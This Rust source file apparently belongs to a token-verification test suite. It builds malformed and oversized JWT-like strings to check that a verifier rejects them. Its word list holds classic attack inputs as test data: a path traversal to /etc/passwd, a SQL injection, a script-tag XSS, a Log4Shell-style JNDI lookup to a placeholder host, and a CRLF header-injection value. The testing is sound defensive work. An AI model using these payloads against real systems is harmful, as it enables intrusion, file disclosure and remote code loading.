//! What is too long, and what is no token at all.

use serde_json::json;

use crate::Hostile;
use crate::support::tokens::{base64url, claims};
use crate::target::Target;

pub(crate) fn no_tokens(target: &Target) -> Vec<Hostile> {
    let good = target.good();
    let mut long = claims("alice");
    long["more"] = json!("x".repeat(9_000));
    let more = target.header(json!({ "more": "x".repeat(9_000) }));
    let mut all: Vec<Hostile> = vec![
        ("claims too long".into(), target.signer.token(&long)),
        ("a header too long".into(), target.signer.sign(&more, &claims("alice"))),
        ("a signature too long".into(), format!("{good}{}", "A".repeat(9_000))),
        ("dots".into(), ".".repeat(9_000)),
        ("very long".into(), "A".repeat(50_000)),
        ("a scheme before it".into(), format!("Bearer {good}")),
        ("two schemes before it".into(), format!("Bearer Bearer {good}")),
        ("a space before it".into(), format!(" {good}")),
        ("a space behind it".into(), format!("{good} ")),
        ("a line break behind it".into(), format!("{good}\n")),
        ("CRLF behind it".into(), format!("{good}\r\nX-Forged: 1")),
        ("NUL behind it".into(), format!("{good}\0")),
        ("a comma and itself behind it".into(), format!("{good},{good}")),
        ("in quotes".into(), format!("\"{good}\"")),
        ("escaped".into(), good.replace('.', "%2e")),
        ("in base64".into(), base64url(&good)),
        ("behind a byte order mark".into(), format!("\u{feff}{good}")),
        ("with full-width dots".into(), good.replace('.', "\u{ff0e}")),
        ("in capitals".into(), good.to_uppercase()),
        ("backwards".into(), good.chars().rev().collect()),
        ("four parts".into(), format!("{good}.x")),
        ("an empty part before it".into(), format!(".{good}")),
        ("a semicolon behind it".into(), format!("{good};alice")),
    ];
    let words = [
        "alice",
        "null",
        "undefined",
        "[object Object]",
        "{}",
        ".",
        "..",
        "...",
        "a.b.c",
        "e30.e30.",
        "e30.e30.e30",
        "eyJ",
        "Bearer",
        "../../etc/passwd",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "${jndi:ldap://a.example/x}",
        "\u{1f511}.\u{1f511}.\u{1f511}",
        "\0\0\0",
        "%",
        "%%%",
        "=.=.=",
        "-.-.-",
        "_._._",
    ];
    all.extend(words.map(|text| (format!("the text {text:?}"), text.to_owned())));
    all
}
